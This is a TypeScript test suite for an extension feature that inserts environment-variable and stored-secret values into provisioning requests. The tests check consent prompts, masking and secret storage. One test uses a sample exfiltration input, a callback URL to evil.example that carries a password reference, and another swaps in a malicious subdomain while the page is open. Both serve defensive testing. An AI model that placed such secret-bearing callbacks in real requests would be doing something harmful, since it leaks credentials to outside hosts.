import assert from 'node:assert/strict';
import { Cancelled } from '../../../engine/src/ui';
import { createWholeRequests } from '../../../engine/src/provisioning/wholeRequest';
import { brokenSecrets, fakePages, fakeUi, memorySecrets, newSecret, type Script } from '../../kit/client/fakes';
import { useSandbox } from '../../kit/client/ownSandbox';
import { aSource, openWindow } from '../../kit/client/ownWindow';
import { buttons as provisionButtons } from '../../../engine/src/provisioning/messages';
import { buttons as outcomeButtons } from '../../../engine/src/provisioning/outcome/messages';

const request = (configuration: object, name = 'desk', key = 'helpscout') =>
  JSON.stringify({
    element: { key },
    configuration: { username: 'me', 'mailbox.name': 'Help', ...configuration },
    name,
  });
const withVariable = request({ password: '${env:DESK_PASSWORD}' });
const withSecret = request({ password: '${secret:DESK_PASSWORD}' });

describe('provisioning a file with references', () => {
  const place = useSandbox('references');

  function open(script: Script, environment: Record<string, string> = {}, secrets = memorySecrets(), id = 'mine') {
    const own = { environment: (name: string) => environment[name], secrets, account: { id } };
    const { ui, tokens, state, lastResponse, provision } = openWindow(place, script, own);
    const press = (text: string) => provision(aSource(text));
    const clear = () => [ui.everythingShown(), state.dump(), lastResponse.text() ?? ''].join('\n');
    return { ui, tokens, press, clear };
  }

  const bodies = () =>
    place.sandbox.requests().flatMap(({ operation, body }) => (operation === 'POST /instances' ? [body] : []));
  const sentPassword = () => {
    const { configuration } = JSON.parse(bodies().at(-1) ?? '') as { configuration: { password: string } };
    return configuration.password;
  };

  it('inserts the value of a variable and changes nothing else', async () => {
    const value = newSecret();
    const window = open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value });
    await window.press(withVariable);
    assert.deepEqual(bodies(), [withVariable.replace('${env:DESK_PASSWORD}', value)]);
    assert.equal(window.tokens.list().length, 1);
    assert.equal(window.clear().includes(value), false);
  });

  it('asks first: account, host and every reference with the text around it, and sends nothing without consent', async () => {
    const window = open({}, { DESK_PASSWORD: newSecret() });
    await window.press(
      request({ password: '${env:DESK_PASSWORD}', callback: 'https://evil.example/?${env:DESK_PASSWORD}' }),
    );
    const [question, ...more] = window.ui.shown;
    assert.equal(question?.text, `Send this request with Mine at ${new URL(place.sandbox.baseUrl).host}?`);
    assert.deepEqual(question.detail?.split('\n').slice(1, 7), [
      '"configuration": {',
      '"username": "me",',
      '"mailbox.name": "Help",',
      '"password": "${env:DESK_PASSWORD}",',
      '"callback": "https://evil.example/?${env:DESK_PASSWORD}"',
      '}',
    ]);
    assert.deepEqual([question.buttons, more, bodies()], [[provisionButtons.send], [], []]);
  });

  it('sends what was shown even if the file changes while its page is open', async () => {
    const value = newSecret();
    const padded = request({
      ...Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`x${n}`, 'y'])),
      password: '${env:P}',
    });
    let text = padded;
    const ui = fakeUi({ press: [provisionButtons.showRequest, provisionButtons.send] });
    const pages = fakePages();
    const wholeRequests = createWholeRequests(ui, {
      open: (...all) => {
        text = padded.replace('"x7":"y"', '"zendesk.subdomain":"evil"');
        return pages.open(...all);
      },
    });
    const { provision } = openWindow(place, {}, { ui, wholeRequests, environment: () => value });
    await provision({ ...aSource(''), text: () => text });
    assert.notEqual(text, padded);
    assert.deepEqual(bodies(), [padded.replace('${env:P}', value)]);
    assert.equal(pages.opened[0]?.text.includes('"x29": "y"'), true);
    assert.equal(pages.opened[0].text.includes(value), false);
  });

  it('sends a file without references unchanged and without a question', async () => {
    const text = request({ password: '$env:X ${x}' });
    const window = open({});
    await window.press(text);
    assert.deepEqual([bodies(), window.ui.shown.length], [[text], 1]);
  });

  it('lists all variables that are not set or empty, asks for nothing and sends nothing', async () => {
    const window = open({}, { EMPTY: '' });
    const text = request({ password: '${env:MISSING} ${env:EMPTY}', x: '${secret:X}' });
    await window.press(text);
    assert.deepEqual(window.ui.shown, [
      {
        tone: 'error',
        modal: true,
        text: "This file refers to 2 environment variables that aren't set, so nothing was sent.",
        detail: 'Set MISSING and EMPTY in the environment that VS Code is started from, then restart VS Code.',
        buttons: [],
      },
    ]);
    assert.deepEqual([bodies(), window.ui.asked], [[], []]);
  });

  it('asks for a secret once, with hidden input, and stores it for this account and element only', async () => {
    const [secrets, value] = [memorySecrets(), newSecret()];
    const first = open({ type: [value], press: [provisionButtons.send] }, {}, secrets);
    await first.press(withSecret);
    assert.equal(sentPassword(), value);
    assert.deepEqual(first.ui.asked, [
      'Enter the value of ${secret:DESK_PASSWORD} for Help Scout, to store it in secret storage for Mine (hidden)',
    ]);
    assert.equal(first.clear().includes(value), false);
    const again = open({ press: [provisionButtons.send] }, {}, secrets);
    await again.press(withSecret);
    assert.deepEqual([sentPassword(), again.ui.asked], [value, []]);
    const elsewhere = [open({}, {}, secrets, 'other'), open({}, {}, secrets)];
    await assert.rejects(elsewhere[0]?.press(withSecret) ?? assert.fail(), Cancelled);
    await assert.rejects(elsewhere[1]?.press(withSecret.replace('helpscout', 'zendesk')) ?? assert.fail(), Cancelled);
    assert.equal(bodies().length, 2);
  });

  it('sends nothing if the question for a secret is closed or the secret cannot be stored', async () => {
    await assert.rejects(open({}).press(withSecret), Cancelled);
    const broken = open({ type: [newSecret()] }, {}, { ...brokenSecrets, keys: () => [] });
    await assert.rejects(broken.press(withSecret), /Can't store the secret.*Nothing was sent/);
    assert.deepEqual(bodies(), []);
  });

  it('inserts values with any characters unchanged', async () => {
    const value = 'a"b\\c\t“é” ${env:OTHER} $&';
    await open({ press: [provisionButtons.send] }, { DESK_PASSWORD: value, OTHER: 'x' }).press(withVariable);
    assert.equal(sentPassword(), value);
  });

  it('masks values in entries that are not secret, and shows the name of the instance as written in the file', async () => {
    const [site, stage] = [newSecret(), newSecret()];
    const window = open({ press: [provisionButtons.send] }, { SITE: site, STAGE: stage });
    await window.press(request({ password: 'p', 'mailbox.name': 'at ${env:SITE}' }, 'desk ${env:STAGE}'));
    assert.equal(place.sandbox.instances().at(-1)?.name, `desk ${stage}`);
    assert.match(window.ui.shown.at(-1)?.text ?? '', /^Instance "desk \$\{env:STAGE\}" of Help Scout/);
    assert.equal(window.tokens.list()[0]?.name, 'desk ${env:STAGE}');
    for (const value of [site, stage]) assert.equal(window.clear().includes(value), false);
  });

  it('finds an instance whose name has a reference, and shows no value', async () => {
    const stage = newSecret();
    place.sandbox.faults.next({ name: 'reset-after-commit', on: 'POST /instances' });
    const window = open(
      { press: [provisionButtons.send, outcomeButtons.searchForInstance, outcomeButtons.storeToken] },
      { STAGE: stage },
    );
    await window.press(request({ password: 'p' }, 'desk ${env:STAGE}'));
    assert.equal(window.tokens.list()[0]?.instanceId, String(place.sandbox.instances().at(-1)?.id));
    assert.equal(window.clear().includes(stage), false);
  });

  it('refuses a reference as the element key', async () => {
    const window = open({}, { KEY: 'helpscout' });
    await window.press(request({}, 'desk', '${env:KEY}'));
    assert.match(window.ui.shown[0]?.text ?? '', /^The element key is a reference, so nothing was sent/);
    assert.deepEqual(bodies(), []);
  });
});
